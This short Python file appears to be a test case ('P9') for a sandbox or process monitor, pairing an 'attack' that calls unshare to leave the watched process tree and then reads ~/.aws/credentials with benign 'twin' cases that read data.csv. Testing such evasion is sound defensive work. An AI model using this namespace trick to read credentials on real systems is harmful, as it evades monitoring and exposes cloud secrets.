"""P9: leaves the process tree and opens the secret there"""
from kit import *


def in_namespaces(w, flags):
    syscall("unshare", flags)
    return run("cat", str(w.home / ".aws/credentials"))


def attack(w):
    flags = CLONE_NEWPID if os.geteuid() == 0 else CLONE_NEWPID | CLONE_NEWUSER
    yield "unshare(NEWPID), then open", lambda: in_namespaces(w, flags)


def twin(w):
    yield "a child process", lambda: run("cat", "data.csv")
    yield "a grand-child process", lambda: sh("sh -c 'cat data.csv'")
